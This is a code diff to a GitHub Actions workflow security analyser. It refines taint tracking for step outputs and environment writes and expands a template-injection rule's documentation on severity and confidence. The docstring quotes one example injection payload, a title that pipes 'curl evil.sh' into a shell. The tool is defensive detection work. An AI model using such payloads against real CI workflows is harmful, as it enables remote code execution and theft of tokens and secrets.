@@ -24,6 +24,7 @@ from bastion.rules.taint import (
     env_levels,
     known_outputs,
     mask_expressions,
+    privileged_events,
     value_flows,
 )
 from bastion.source.yaml import MappingNode, ScalarNode
@@ -104,6 +105,7 @@ class Taint:
     event: str = ""
     """For a high-severity taint: the privileged event that delivers it."""
     note: str = ""
+    """Said after who controls the value."""
     json: bool = False
     """The text arrives JSON-encoded, which a JavaScript sink reads as a literal."""
 
@@ -150,8 +152,7 @@ class Analysis:
     def __init__(self, model: Workflow | Action) -> None:
         self.workflow = model if isinstance(model, Workflow) else None
         self.events = {t.event for t in self.workflow.triggers} if self.workflow else set()
-        self.privileged = [t.event for t in self.workflow.triggers] if self.workflow else []
-        self.privileged = [e for e in self.privileged if e in PRIVILEGED_TRIGGERS]
+        self.privileged = privileged_events(self.workflow) if self.workflow else []
         self.input_types = self._input_types()
         self._written: dict[tuple[int, str], dict[str, Taint]] = {}
 
@@ -356,28 +357,37 @@ class Analysis:
         result: dict[str, Taint] = {}
         for line in script.splitlines():
             embedded = find_expressions(line)
-            taints = [self.expression(e.source, scope, depth + 1) for e in embedded]
             masked = mask_expressions(line, embedded)
+            sources: list[tuple[int, Taint | None]] = [
+                (e.start, self.expression(e.source, scope, depth + 1)) for e in embedded
+            ]
             for match in _SHELL_VARIABLE.finditer(masked):
                 name = match.group(1)
                 if name in variables:
-                    taints.append(variables[name])
+                    sources.append((match.start(), variables[name]))
                 elif not name.startswith("GITHUB_"):
-                    taints.append(self.env(name.lower(), scope, depth + 1, f"env.{name}"))
-            found = _worst(taints)
+                    taint = self.env(name.lower(), scope, depth + 1, f"env.{name}")
+                    sources.append((match.start(), taint))
+            found = _worst([taint for _, taint in sources])
             if found is None:
                 continue
             assignment = _SHELL_ASSIGNMENT.match(masked)
             if assignment:
                 variables[assignment.group(1)] = found
             if target == "GITHUB_OUTPUT" and "::set-output" in masked:
-                names = _SET_OUTPUT_COMMAND.findall(masked)
+                names = list(_SET_OUTPUT_COMMAND.finditer(masked))
             elif target in masked:
-                names = _WRITTEN_NAME.findall(masked.split(">", 1)[0])
+                names = list(_WRITTEN_NAME.finditer(masked.split(">", 1)[0]))
             else:
                 continue
-            for name in names or ["*"]:
-                result[name.lower()] = found
+            if not names:
+                result["*"] = found
+            for name_match in names:
+                # Only what follows `name=` is its value: `tool $X --print NAME=...` is not.
+                after = [t for at, t in sources if at >= name_match.end()]
+                value = _worst(after)
+                if value is not None:
+                    result[name_match.group(1).lower()] = value
         return result
 
     def _script_writes(
@@ -419,7 +429,7 @@ class TemplateInjection(Rule):
     an action's script input) *before* the shell or interpreter reads it. When the value is
     written by an outsider, such as a pull request title, an issue body, a comment or a
     branch name, its text becomes part of the program: a title like
-    ``a"; curl evil.sh | sh; echo "`` runs the attacker's commands.
+    `a"; curl evil.sh | sh; echo "` runs the attacker's commands.
 
     Sinks: `run:` in workflows and composite actions, the `script:` of
     `actions/github-script`, and the script inputs of a few well-known actions (azure/cli,
@@ -433,18 +443,25 @@ class TemplateInjection(Rule):
     object holding any of them. The value is also followed one hop at a time through
     `env:` variables, `$GITHUB_ENV`, step outputs written to `$GITHUB_OUTPUT` (or by
     `core.setOutput` in github-script), job outputs, and the outputs of actions that report
-    file or branch names (tj-actions/changed-files, dorny/paths-filter); such derived
+    file or branch names (tj-actions/changed-files, dorny/paths-filter's csv and json
+    lists); such derived
     findings have medium confidence. Inputs of `workflow_dispatch`/`workflow_call` are
     reported with low severity (callers need write access) unless typed boolean, number
     or choice; inputs of a composite action with medium severity and confidence.
 
     Not reported: numbers, SHAs, ids, logins, `github.repository`, secrets, matrix values,
-    and the event fields that only people with write access set (release notes, label
-    names, pushed branch and tag names).
+    a bare object (it expands to the word `Object`), and event fields this rule does not
+    know as outsider-written, including those only people with write access set (release
+    notes, label names, pushed branch and tag names).
 
     Severity is high when a privileged trigger (`pull_request_target`, `workflow_run`,
     `issue_comment`, `issues`, `pull_request_review(_comment)`, `discussion(_comment)`)
-    delivers the value, with its write token and secrets; medium otherwise.
+    delivers the value, with its write token and secrets; medium otherwise (and in
+    actions and reusable workflows, whose event is the caller's); low, with low confidence,
+    for a field that no trigger of the workflow delivers. A JSON-encoded value
+    (`toJSON(...)`) in a JavaScript sink is reported with low confidence, since JavaScript
+    reads JSON as a literal; so are the file lists of tj-actions/changed-files, which it
+    shell-escapes unless `safe_output: false`.
 
     ## Why it matters
     Script injection is the most common way into a CI job; under a privileged trigger it
